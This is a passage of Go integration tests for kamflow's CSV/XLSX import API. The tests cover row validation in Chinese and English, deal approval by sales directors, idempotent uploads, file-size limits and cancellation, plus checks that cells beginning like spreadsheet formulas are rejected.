		e.must(201, "POST", "/api/v1/accounts/"+acc+"/contacts", "kam1", `{"name":"李总","title":"Plant director","phone":"13900000000"}`)

		text := "客户编号\t姓名\t职务\t角色\t态度\t影响力\t电话\t邮箱\n" +
			"CRM-1\t王工\t总工程师\t内线\t支持\t4\t+86 21 5555 1234\twang@example.com\n" + // 2: imported
			"CRM-1\t王工\t\t\t\t\t\t\n" + // 3: line 2 again (no number tells them apart)
			"CRM-1\t王工\t\tuser\t\t\t13800000000\t\n" + // 4: another 王工: another mobile
			"CRM-1\t李总\t\t决策者\t\t\t\t\n" + // 5: present (added by hand)
			"CRM-9\t赵工\t\t\t\t\t\t\n" + // 6: no such account
			"CRM-2\t钱工\t\tboss\tfriendly\t7\t=1+1\tqian@\n" // 7: everything wrong
		u16, err := unicodeUTF16LE(text)
		if err != nil {
			t.Fatal(err)
		}
		res := e.upload("kam1", "kind=contacts&dry_run=true", "contacts.txt", u16)
		dry := decodeReport(t, res)
		sameText(t, "dry run", dry.counts(), "done dry_run=true total=6 processed=6 imported=2 skipped=1 rejected=3")
		if dry.Encoding != "utf-16le" {
			t.Errorf("encoding %s", dry.Encoding)
		}
		sameText(t, "dry run issues", dry.issues(), `3 rejected 姓名 (name) duplicate: the same person as line 2 (王工 at 华东石化)
5 skipped 姓名 (name) exists: 李总 of 华东石化 is already in kamflow
6 rejected 客户编号 (account_id) unknown_account: no account CRM-9 in the team: import the accounts first
7 rejected 角色 (role) unknown_role: "boss" is not a buying-center role (decision_maker, influencer, user, technical_evaluator, purchaser, executor, insider, or 决策者 …)
7 rejected 态度 (stance) unknown_stance: "friendly" is not supporter, neutral or opponent (支持, 中立, 反对)
7 rejected 影响力 (influence) bad_number: "7" must be a whole number from 1 to 5
7 rejected 电话 (phone) formula: "=1+1" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character
7 rejected 邮箱 (email) bad_email: "qian@" is not an e-mail address
`)
		res = e.upload("kam1", "kind=contacts&dry_run=false", "contacts.txt", u16)
		e.waitImports()
		done := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
		sameText(t, "real run", done.counts(), "done dry_run=false total=6 processed=6 imported=2 skipped=1 rejected=3")
		list := e.must(200, "GET", "/api/v1/accounts/"+acc+"/contacts", "kam2", "")["items"].([]any)
		var got []string
		for _, it := range list {
			m := it.(map[string]any)
			got = append(got, fmt.Sprintf("%v %v %v %v %v", m["name"], nilEmpty(m["role"]), m["stance"], nilEmpty(m["phone"]), m["created_by"]))
		}
		sameText(t, "contacts", strings.Join(got, "\n"), "李总  neutral 13900000000 kam1\n王工 insider supporter +86 21 5555 1234 kam1\n王工 user neutral 13800000000 kam1")

		res = e.upload("kam1", "kind=contacts&dry_run=false", "contacts.txt", u16)
		e.waitImports()
		sameText(t, "re-run", decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200)).counts(),
			"done dry_run=false total=6 processed=6 imported=0 skipped=3 rejected=3")

		// Exported and imported again: all present.
		for _, q := range []string{"format=csv", "format=xlsx&lang=zh-CN"} {
			out := e.get(t, "kam2", "/api/v1/exports/contacts?"+q, 200)
			r := decodeReport(t, e.upload("kam2", "kind=contacts", "export", out.body))
			if r.Total != 3 || r.Skipped != 3 {
				t.Errorf("%s: %s\n%s", q, r.counts(), r.issues())
			}
		}
		zh := e.get(t, "kam1", "/api/v1/exports/contacts?lang=zh-CN", 200)
		if !strings.Contains(string(zh.body), ",王工,总工程师,,内线,支持,4,,'+86 21 5555 1234,wang@example.com,") {
			t.Errorf("Chinese export:\n%s", zh.body)
		}
		if rows := e.get(t, "kam3", "/api/v1/exports/contacts", 200); strings.Count(string(rows.body), "\r\n") != 1 {
			t.Errorf("kam3 exports another team's contacts:\n%s", rows.body)
		}
	})
}

func unicodeUTF16LE(s string) ([]byte, error) {
	return unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().Bytes([]byte(s))
}

// TestImportDealsFailures: a deal its workflow refuses is rejected (failed) and the run goes on;
// when Temporal does not answer, the run stops as failed, and running the file again imports the
// rest.
func TestImportDealsFailures(t *testing.T) {
	e := newEnv(t, dbtest.SQLite(t))
	e.upload("kam1", "kind=accounts&dry_run=false", "a.csv", []byte("name\nACME\n"))
	e.waitImports()
	file := []byte("account,title,value,stage\nACME,One,1,development\nACME,Two,2,development\nACME,Three,3,development\n")

	e.svc.setFail(kamflow.Errorf(kamflow.EINVALID, "title refused by the workflow"))
	res := e.upload("kam1", "kind=deals&dry_run=false", "d.csv", file)
	e.waitImports()
	r := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
	sameText(t, "refused", r.counts()+"\n"+r.issues(), "done dry_run=false total=3 processed=3 imported=2 skipped=0 rejected=1\n"+
		"2 rejected  () failed: the deal's workflow refused it: title refused by the workflow\n")
	rej := e.get(t, "kam1", "/api/v1/imports/"+r.ID+"/rejected", 200)
	sameText(t, "rejected file", string(rej.body), "\ufeffimport_line,import_errors,account,title,value,stage\r\n"+
		"2,the deal's workflow refused it: title refused by the workflow,ACME,One,1,development\r\n")

	file = append(file, "ACME,Four,4,development\nACME,Five,5,development\n"...)
	e.svc.setFail(kamflow.Errorf(kamflow.EUNAVAILABLE, "Temporal is not answering"))
	res = e.upload("kam1", "kind=deals&dry_run=false", "d.csv", file)
	e.waitImports()
	r = decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
	// Temporal away is retried (the workflow retries its step for hours): the run carries on.
	sameText(t, "retried", r.counts(), "done dry_run=false total=5 processed=5 imported=3 skipped=2 rejected=0")

	res = e.upload("kam1", "kind=deals&dry_run=false", "d.csv", file)
	e.waitImports()
	r = decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
	sameText(t, "again", r.counts(), "done dry_run=false total=5 processed=5 imported=0 skipped=5 rejected=0")
	if n := e.must(200, "GET", "/api/v1/deals", "kam1", "")["total"].(float64); n != 5 {
		t.Errorf("%v deals, want 5", n)
	}
}

// TestImportIdempotencyKey: an upload retried with its Idempotency-Key gets the first answer
// again (the same import), and the key on another file is a conflict.
func TestImportIdempotencyKey(t *testing.T) {
	e := newEnv(t, dbtest.SQLite(t))
	body, ct := multipartFile("a.csv", []byte("name\nACME\n"))
	send := func(body string) *response {
		return e.serve(request{method: "POST", path: "/api/v1/imports?kind=accounts&dry_run=false", as: "kam1", body: body,
			headers: map[string]string{"Content-Type": ct, "Idempotency-Key": "upload-1"}})
	}
	first := send(body)
	e.waitImports()
	again := send(body)
	if first.status != 201 || again.status != 201 || again.header.Get("Idempotent-Replayed") != "true" ||
		decodeReport(t, again).ID != decodeReport(t, first).ID {
		t.Errorf("retry: %d %d %s\n%s\n%s", first.status, again.status, again.header.Get("Idempotent-Replayed"), first.body, again.body)
	}
	other, _ := multipartFile("a.csv", []byte("name\nBeta\n"))
	if res := send(other); res.status != 409 {
		t.Errorf("another file with the key: %d %s", res.status, res.body)
	}
	if items := e.must(200, "GET", "/api/v1/imports", "kam1", "")["items"].([]any); len(items) != 1 {
		t.Errorf("%d imports, want 1", len(items))
	}
}

// TestImportContactsReportsTo: the manager a row names (by name, or by id as an export writes it)
// becomes the contact's reports_to, also when the manager comes later in the file; a manager who
// is no one, several people or part of a circle rejects the row, and so does a manager whose own
// row is rejected — nothing is dropped silently.
func TestImportContactsReportsTo(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		e := newEnv(t, d)
		e.upload("kam1", "kind=accounts&dry_run=false", "a.csv", []byte("external_id,name\nCRM-1,华东石化\n"))
		e.waitImports()
		acc := e.must(200, "GET", "/api/v1/accounts?q=华东", "kam1", "")["items"].([]any)[0].(map[string]any)["id"].(string)
		boss := e.must(201, "POST", "/api/v1/accounts/"+acc+"/contacts", "kam1", `{"name":"李总","title":"Plant director"}`)["id"].(string)
		e.must(201, "POST", "/api/v1/accounts/"+acc+"/contacts", "kam1", `{"name":"张工","phone":"1"}`)
		e.must(201, "POST", "/api/v1/accounts/"+acc+"/contacts", "kam1", `{"name":"张工","phone":"2"}`)
		file := "客户编号,姓名,上级\n" +
			"CRM-1,王工,周总\n" + // 2: a manager further down the file
			"CRM-1,周总," + boss + "\n" + // 3: a manager in kamflow, by id
			"CRM-1,赵工,钱总\n" + // 4: no one of that name
			"CRM-1,孙工,张工\n" + // 5: two people of that name
			"CRM-1,吴工,郑工\n" + // 6: a circle with line 7
			"CRM-1,郑工,吴工\n" + // 7
			"CRM-1,冯工,吴工\n" + // 8: their manager's row is rejected
			"CRM-1,陈工,陈工\n" // 9: themselves
		r := decodeReport(t, e.upload("kam1", "kind=contacts&dry_run=true", "c.csv", []byte(file)))
		sameText(t, "dry run", r.counts(), "done dry_run=true total=8 processed=8 imported=2 skipped=0 rejected=6")
		sameText(t, "issues", r.issues(), `4 rejected 上级 (reports_to) unknown_manager: no one called 钱总 at this account: add the manager first, or in the same file
5 rejected 上级 (reports_to) unknown_manager: several people of the account are called 张工: name the manager by id
6 rejected 上级 (reports_to) unknown_manager: 吴工 and their managers would report to each other in a circle
7 rejected 上级 (reports_to) unknown_manager: 郑工 and their managers would report to each other in a circle
8 rejected 上级 (reports_to) unknown_manager: the row of their manager 吴工 (line 6) is rejected
9 rejected 上级 (reports_to) unknown_manager: 陈工 cannot report to themselves
`)
		e.upload("kam1", "kind=contacts&dry_run=false", "c.csv", []byte(file))
		e.waitImports()
		got := map[string]string{}
		ids := map[string]string{}
		items := e.must(200, "GET", "/api/v1/accounts/"+acc+"/contacts", "kam1", "")["items"].([]any)
		for _, it := range items {
			m := it.(map[string]any)
			ids[m["name"].(string)] = m["id"].(string)
			got[m["name"].(string)], _ = m["reports_to"].(string)
		}
		if got["王工"] != ids["周总"] || got["周总"] != boss || len(items) != 5 {
			t.Errorf("reports_to %v (ids %v)", got, ids)
		}
	})
}

// TestImportDealsApproval: a KAM's deals past development wait for a director of the team while
// the rest of the file goes ahead; the team's directors are told; only one of them decides, once:
// approved, the deals open at their stages marked imported and approved; rejected, the held rows
// are rejected with the reason. A director's own import goes ahead whole.
func TestImportDealsApproval(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		e := newEnv(t, d)
		e.upload("kam1", "kind=accounts&dry_run=false", "a.csv", []byte("external_id,name\nCRM-1,华东石化\n"))
		e.waitImports()
		file := []byte("商机编号,客户编号,商机名称,金额,阶段,负责人\n" +
			"D-1,CRM-1,Boiler feed pumps,5000000,negotiation,\n" + // 2: held
			"D-2,CRM-1,Spare parts,80000,development,\n" + // 3: goes ahead
			"D-3,CRM-1,DCS retrofit,1200000,bid,kam2\n" + // 4: held
			"D-4,CRM-1,Analysers,300000,proposal,kam3\n") // 5: rejected (not held: it has a problem)
		why := "is at the %s stage, past development: its key nodes before (assessment, bid, margin approval) count as passed, so a sales director of the team approves its import"
		wantHeld := fmt.Sprintf("2 held 阶段 (stage) needs_approval: Boiler feed pumps "+why+"\n", "negotiation") +
			fmt.Sprintf("4 held 阶段 (stage) needs_approval: DCS retrofit "+why+"\n", "bid") +
			"5 rejected 负责人 (owner) unknown_owner: kam3 is not a KAM of the team\n"
		dry := decodeReport(t, e.upload("kam1", "kind=deals&dry_run=true", "商机.csv", file))
		sameText(t, "dry run", dry.counts()+"\n"+dry.issues(), "done dry_run=true total=4 processed=2 imported=1 skipped=0 rejected=1 held=2\n"+wantHeld)

		res := e.upload("kam1", "kind=deals&dry_run=false", "商机.csv", file)
		loc := res.header.Get("Location")
		e.waitImports()
		imp := decodeReport(t, e.get(t, "kam1", loc, 200))
		sameText(t, "awaiting", imp.counts()+"\n"+imp.issues(), "awaiting_approval dry_run=false total=4 processed=2 imported=1 skipped=0 rejected=1 held=2\n"+wantHeld)
		titles := func() string {
			var out []string
			for _, it := range e.must(200, "GET", "/api/v1/deals?limit=200", "kam1", "")["items"].([]any) {
				m := it.(map[string]any)
				out = append(out, fmt.Sprintf("%s@%s", m["title"], m["stage"]))
			}
			slices.Sort(out)
			return strings.Join(out, " ")
		}
		sameText(t, "deals while held", titles(), "Spare parts@development")
		// The team's directors are told, in the app; the other team's director is not.
		notices := func(as, kind string) []string {
			var out []string
			for _, it := range e.must(200, "GET", "/api/v1/notifications", as, "")["items"].([]any) {
				if m := it.(map[string]any); m["kind"] == kind {
					out = append(out, m["message"].(string))
				}
			}
			return out
		}
		if got := notices("d1", "import_approval"); len(got) != 1 || got[0] != "kam1's import of 商机.csv holds 2 deals past development for your approval (import page): they would skip their key nodes" {
			t.Errorf("d1 is told %q", got)
		}
		if got := notices("d2", "import_approval"); len(got) != 0 {
			t.Errorf("d2 is told %q", got)
		}
		for as, want := range map[string]int{"d1": 1, "kam1": 1, "kam2": 0, "d2": 0, "admin": 1} {
			if items := e.get(t, as, "/api/v1/imports?status=awaiting_approval", 200).json.(map[string]any)["items"].([]any); len(items) != want {
				t.Errorf("%s lists %d imports awaiting approval, want %d", as, len(items), want)
			}
		}
		e.get(t, "kam1", "/api/v1/imports?status=later", 400)

		// Only a director of the team decides; a rejection needs a reason.
		for as, want := range map[string]int{"kam1": 403, "kam2": 403, "admin": 403, "d2": 404, "e1": 403} {
			e.post(t, as, loc+"/approve", "", want)
		}
		e.post(t, "d1", loc+"/reject", `{"reason":"  "}`, 400)
		if r := e.serve(request{method: "POST", path: loc + "/approve", as: "d1", body: `{"reason":1}`}); r.status != 400 {
			t.Errorf("a reason that is not text: %d %s", r.status, r.body)
		}

		release := e.holdImports() // the approved run answers planned, before it commits
		ok := decodeReport(t, e.post(t, "d1", loc+"/approve", "", 200))
		if ok.Status != "running" || ok.Held != 0 || ok.Approval == nil || ok.Approval.Decision != "approved" || ok.Approval.By != "d1" {
			t.Errorf("approved: %s %+v", ok.counts(), ok.Approval)
		}
		release()
		e.waitImports()
		done := decodeReport(t, e.get(t, "kam1", loc, 200))
		sameText(t, "approved", done.counts()+"\n"+done.issues(), "done dry_run=false total=4 processed=4 imported=3 skipped=0 rejected=1\n"+
			"5 rejected 负责人 (owner) unknown_owner: kam3 is not a KAM of the team\n")
		sameText(t, "deals approved", titles(), "Boiler feed pumps@negotiation DCS retrofit@bid Spare parts@development")
		for _, it := range e.must(200, "GET", "/api/v1/deals?limit=200", "kam1", "")["items"].([]any) {
			m := it.(map[string]any)
			if m["title"] != "DCS retrofit" {
				continue
			}
			deal := e.must(200, "GET", "/api/v1/deals/"+m["id"].(string), "kam2", "")
			if mk, _ := deal["imported"].(map[string]any); deal["owner"] != "kam2" || mk["by"] != "kam1" || mk["approved_by"] != "d1" || mk["stage"] != "bid" || mk["line"] != float64(4) {
				t.Errorf("approved deal: %v %v", deal["owner"], deal["imported"])
			}
		}
		e.post(t, "d1", loc+"/approve", "", 409)
		e.post(t, "d1", loc+"/reject", `{"reason":"too late"}`, 409)
		if got := notices("kam1", "import_decision"); len(got) != 1 || got[0] != "d1 approved the import of 2 deals past development from 商机.csv" {
			t.Errorf("kam1 is told %q", got)
		}
		var actions []string
		entries, _, err := d.Audit(context.Background(), kamflow.AuditFilter{EntityType: "import", EntityID: imp.ID})
		if err != nil {
			t.Fatal(err)
		}
		for _, en := range entries {
			actions = append(actions, en.Actor+" "+en.Action+": "+en.Summary)
		}
		slices.Sort(actions)
		sameText(t, "audit", strings.Join(actions, "\n"), strings.Join([]string{
			"d1 import.approve: d1 approved the import of 2 deals past development from 商机.csv (kam1's import)",
			"kam1 import.awaiting_approval: deals imported from 商机.csv: 1 of 4 rows imported, 0 skipped as present, 1 rejected, 2 held for a director's approval",
			"kam1 import.done: deals imported from 商机.csv: 3 of 4 rows imported, 0 skipped as present, 1 rejected",
		}, "\n"))

		// Another file, rejected: its held row is rejected with the reason, in the rejected file.
		other := []byte("客户编号,商机名称,金额,阶段\nCRM-1,Flow meters,990000,投标阶段\n")
		res = e.upload("kam1", "kind=deals&dry_run=false", "第二批.csv", other)
		loc = res.header.Get("Location")
		if r := decodeReport(t, res); r.Status != "awaiting_approval" || r.Held != 1 {
			t.Errorf("all held: %s", r.counts())
		}
		no := decodeReport(t, e.post(t, "d1", loc+"/reject", `{"reason":"No bid on file: import it at development"}`, 200))
		sameText(t, "rejected", no.counts()+"\n"+no.issues(), "done dry_run=false total=1 processed=1 imported=0 skipped=0 rejected=1\n"+
			"2 rejected 阶段 (stage) not_approved: d1 did not approve the import of this deal past development: No bid on file: import it at development\n")
		rej := e.get(t, "kam1", loc+"/rejected", 200)
		sameText(t, "rejected file", string(rej.body), "\ufeffimport_line,import_errors,客户编号,商机名称,金额,阶段\r\n"+
			"2,阶段: d1 did not approve the import of this deal past development: No bid on file: import it at development,CRM-1,Flow meters,990000,投标阶段\r\n")
		if strings.Contains(titles(), "Flow meters") {
			t.Error("a rejected deal was opened")
		}
		if got := notices("kam1", "import_decision"); len(got) != 2 || got[0] != "d1 rejected the import of 1 deal past development from 第二批.csv: No bid on file: import it at development" {
			t.Errorf("kam1 is told %q", got)
		}

		// A director of the team imports a deal past development at once.
		r := decodeReport(t, e.upload("d1", "kind=deals&dry_run=false", "d1.csv", []byte("account_id,title,value,stage,owner\nCRM-1,Valves,10,bid,kam1\n")))
		e.waitImports()
		if r = decodeReport(t, e.get(t, "d1", "/api/v1/imports/"+r.ID, 200)); r.Status != "done" || r.Imported != 1 || r.Held != 0 {
			t.Errorf("a director's import: %s\n%s", r.counts(), r.issues())
		}
	})
}

// TestImportFileLimits: a file past a structural limit is refused whole at the first excess, as
// too_large naming the limit and where it was passed, and leaves nothing behind.
func TestImportFileLimits(t *testing.T) {
	e := newEnv(t, dbtest.SQLite(t))
	wide := func(rows, cols int) []byte {
		var b bytes.Buffer
		if err := sheettest.WideXLSX(&b, []string{"name", "industry"}, rows, cols, "1"); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	for _, c := range []struct {
		name, file string
		data       []byte
		want       string // reason, limit, max, where: message
	}{
		{"a row wider than the columns", "w.xlsx", wide(3, 70),
			`too_many_columns columns 64 line=2 column=BM sheet=Sheet1: row 2 of worksheet "Sheet1" has a value in column BM, past the 64 columns an import file may have: delete the columns past the data`},
		{"a zip bomb", "bomb.xlsx", wide(2000, 1200),
			"unpacked_too_large unpack_ratio 100 part=xl/worksheets/sheet1.xml: the workbook unpacks to 34.4 MiB (its part xl/worksheets/sheet1.xml to 34.4 MiB), 435 times its own size, more than the 100 times an import file may: this is not a spreadsheet of rows to import (save the data alone as a new .xlsx or as CSV)"},
		{"a CSV row of 65 values", "w.csv", []byte("name\nACME" + strings.Repeat(",x", 64) + "\n"),
			"too_many_columns columns 64 line=2 column=BM: line 2 has a value in column BM, past the 64 columns an import file may have: delete the columns past the data"},
		{"a CSV row of 2,000 cells", "w.csv", []byte("name\nACME\nBeta" + strings.Repeat(",", 2000) + "\n"),
			"too_many_columns columns 64 line=3 column=AMK: line 3 has more than 1024 cells, past the 64 columns an import file may have: delete the columns past the data"},
		{"a cell too long", "l.csv", []byte("name,notes\nACME," + strings.Repeat("长", 32_768) + "\n"),
			"cell_too_long cell_chars 32767 line=2 column=B: the cell in column B of line 2 holds more than 32767 characters (a spreadsheet's own limit for a cell)"},
	} {
		t.Run(c.name, func(t *testing.T) {
			res := e.upload("kam1", "kind=accounts&dry_run=true", c.file, c.data)
			code, _ := lookup(res.json, "error.code")
			det, _ := lookup(res.json, "error.details")
			msg, _ := lookup(res.json, "error.message")
			m, _ := det.(map[string]any)
			got := fmt.Sprintf("%v %v %v", m["reason"], m["limit"], m["max"])
			for _, k := range []string{"line", "column", "sheet", "part"} {
				if v, ok := m[k]; ok {
					got += fmt.Sprintf(" %s=%v", k, v)
				}
			}
			got += ": " + fmt.Sprint(msg)
			if res.status != 413 || code != "too_large" || got != c.want {
				t.Errorf("%d %v %s\nwant 413 too_large %s", res.status, code, got, c.want)
			}
		})
	}
	if items := e.must(200, "GET", "/api/v1/imports", "kam1", "")["items"].([]any); len(items) != 0 {
		t.Errorf("%d imports recorded for refused files", len(items))
	}
}

// TestImportDryRunSample: a dry run keeps the rows of the issues its report lists and the cells of
// its first rejected rows only; the rest are counted. A real run keeps every rejected row whole.
func TestImportDryRunSample(t *testing.T) {
	d := dbtest.SQLite(t)
	e := newEnv(t, d)
	var file bytes.Buffer
	file.WriteString("name,notes\n")
	const n = kamflow.MaxReportIssues + 50
	for i := range n {
		fmt.Fprintf(&file, "=bad%d,%s\n", i, strings.Repeat("x", 30))
	}
	res := e.upload("kam1", "kind=accounts&dry_run=true", "bad.csv", file.Bytes())
	dry := decodeReport(t, res)
	if dry.Rejected != n || len(dry.Issues) != kamflow.MaxReportIssues || !dry.Truncated {
		t.Errorf("answer: %s, %d issues, truncated %v", dry.counts(), len(dry.Issues), dry.Truncated)
	}
	stored, withCells := 0, 0
	err := d.ImportRows(context.Background(), dry.ID, "", func(r kamflow.ImportRow) error {
		stored++
		if len(r.Cells) > 0 {
			withCells++
			if r.Line > kamflow.DryRunSampleRows+1 {
				t.Errorf("line %d kept its cells, past the sample", r.Line)
			}
		}
		return nil
	})
	if err != nil || stored != kamflow.MaxReportIssues || withCells != kamflow.DryRunSampleRows {
		t.Errorf("stored %d rows, %d with cells; want %d and %d (%v)", stored, withCells, kamflow.MaxReportIssues, kamflow.DryRunSampleRows, err)
	}
	back := decodeReport(t, e.get(t, "kam1", "/api/v1/imports/"+dry.ID, 200))
	if back.Rejected != n || len(back.Issues) != kamflow.MaxReportIssues || !back.Truncated {
		t.Errorf("read back: %s, %d issues, truncated %v", back.counts(), len(back.Issues), back.Truncated)
	}
	// A real run keeps them all, with their cells, for its rejected file.
	res = e.upload("kam1", "kind=accounts&dry_run=false", "bad.csv", file.Bytes())
	e.waitImports()
	rej := e.get(t, "kam1", res.header.Get("Location")+"/rejected", 200)
	if lines := strings.Count(string(rej.body), "\r\n"); lines != n+1 || !strings.Contains(string(rej.body), "'=bad10049,"+strings.Repeat("x", 30)) {
		t.Errorf("the rejected file has %d lines, want %d", lines, n+1)
	}
}

// TestImportCancel: the importer (or an admin) cancels a running import: what is committed stays,
// the other rows are not imported — counted, and in the rejected file with their cells; a
// finished import is a conflict to cancel, and no one else may.
func TestImportCancel(t *testing.T) {
	e := newEnv(t, dbtest.SQLite(t))
	release := e.holdImports() // planned, not committing yet
	r := decodeReport(t, e.upload("kam1", "kind=accounts&dry_run=false", "a.csv", []byte("name,industry\nACME,steel\n=x,steel\nBeta,power\n")))
	sameText(t, "running", r.counts(), "running dry_run=false total=3 processed=1 imported=0 skipped=0 rejected=1")
	loc := "/api/v1/imports/" + r.ID
	e.post(t, "kam2", loc+"/cancel", "", 404)
	e.post(t, "d1", loc+"/cancel", "", 403)
	go func() { time.Sleep(50 * time.Millisecond); release() }()
	r = decodeReport(t, e.post(t, "kam1", loc+"/cancel", "", 202))
	e.waitImports()
	r = decodeReport(t, e.get(t, "kam1", loc, 200))
	sameText(t, "cancelled", r.counts()+"\n"+r.issues(), "cancelled dry_run=false total=3 processed=3 imported=0 skipped=0 rejected=1 not_imported=2\n"+
		"2 not_imported  () cancelled: not imported: the import was cancelled before this row\n"+
		"3 rejected name (name) formula: \"=x\" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character\n"+
		"4 not_imported  () cancelled: not imported: the import was cancelled before this row\n")
	rej := e.get(t, "kam1", loc+"/rejected", 200)
	sameText(t, "rejected file", string(rej.body), "\ufeffimport_line,import_errors,name,industry\r\n"+
		"2,not imported: the import was cancelled before this row,ACME,steel\r\n"+
		"3,\"name: \"\"=x\"\" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character\",'=x,steel\r\n"+
		"4,not imported: the import was cancelled before this row,Beta,power\r\n")
	e.post(t, "kam1", loc+"/cancel", "", 409)
	e.post(t, "admin", loc+"/cancel", "", 409)
	if n := e.must(200, "GET", "/api/v1/accounts", "kam1", "")["total"].(float64); n != 0 {
		t.Errorf("%v accounts after the cancel, want 0", n)
	}
}
